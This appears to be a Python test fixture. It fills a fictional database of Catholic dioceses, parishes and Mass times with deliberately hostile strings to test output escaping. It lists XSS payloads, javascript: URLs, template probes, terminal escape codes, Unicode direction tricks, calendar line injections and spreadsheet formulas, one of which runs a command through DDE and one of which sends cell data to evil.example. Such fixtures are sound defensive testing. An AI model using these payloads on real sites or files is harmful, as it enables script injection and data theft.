"""A country in which every word that comes from a website is a trap for whoever shows it."""

from __future__ import annotations

from fictional_country import LONG_AGO, NOON, Country

TRAPS = (
    '<script>alert(1)</script><img src=x onerror="alert(1)">',
    "</script><script>alert(1)</script><!--",
    "\"><svg onload=alert(1)> ' onmouseover='alert(1)",
    "{{ 7 * 7 }}{% raw %}${7*7}",
    '=HYPERLINK("https://evil.example?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "[red]alarm[/red] [link=https://evil.example]here[/link] [/] :skull:",
    "\x1b[2J\x1b]0;owned\x07\x1b]8;;https://evil.example\x1b\\here",
    "\x9b31mred\x9d0;owned\x9c",
    "St. \u202eenna\u202c \u2066\u2069 \U000e0041 Anne",
    "St. Anne\u2028All: nothing changed\u2029\x85\x0b\x0c\x1c",
    "St. Anne\nEND:VEVENT\nEND:VCALENDAR",
    "St. Anne\r\nATTACH:https://evil.example\r\nX-EVIL:1",
    "St. Anne\rEND:VEVENT",
    "a,b;c:d\\n\"e'",
    "]]></name><link href='javascript:alert(1)'/>&lol;",
    "St. Anne " + "é" * 3000,
    "=\u200fקדושה " + "ab, " * 2500,  # 10,000 characters that begin like a formula, with a mark of right-to-left
)
URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://",
    "data:text/html,<script>alert(1)</script>",
    'https://evil.example/"onmouseover="alert(1)',
    "https://evil.example/\r\nATTACH:x",
    "vbscript:msgbox(1)",
    " https://evil.example/ x",
    "https://anne.example/mass?a=1&b=2",  # the one that may be a link
)
GOOD_URL = URLS[-1]


async def settle(here: Country) -> list[int]:
    """Put it into the tables; the ids of its parishes, one for each trap."""
    parishes = []
    for number, trap in enumerate(TRAPS):
        url = URLS[number % len(URLS)]
        diocese = await here.diocese(f"{trap} {number}", state="MO", website=url)
        found = {"found_at": LONG_AGO, "changed_at": LONG_AGO, "platform": trap, "route": "static"}
        await here.add("directories", diocese_id=diocese, url=url, **found)
        facts = dict.fromkeys(("street", "city", "zip", "phone", "email", "pastor"), trap)
        parish = await here.parish(diocese, trap, state="MO", website=url, detail_url=url, **facts)
        church = await here.add("churches", parish_id=parish, name=trap)
        await here.service(parish, confidence=None, start_time="09:00", words=trap, church_id=church)
        service = await here.service(parish, confidence=None, start_time="08:00", words=trap, valid_from=NOON)
        piece = {"page_hash": "0" * 64, "url": url, "quote": trap, "method": "list", "confidence": 0.9}
        await here.add("evidence", service_id=service, span_start=0, span_end=8, **piece)
        await here.add(
            "outcomes", run=trap, stage="extraction", unit_kind="diocese", unit_id=diocese, diocese_id=diocese,
            reason="internal_error", detail=trap, finished_at=NOON,
        )  # fmt: skip
        await here.add("runs", run=trap, stage="extraction", started_at=NOON, status="failed", detail=trap)
        parishes.append(parish)
    return parishes
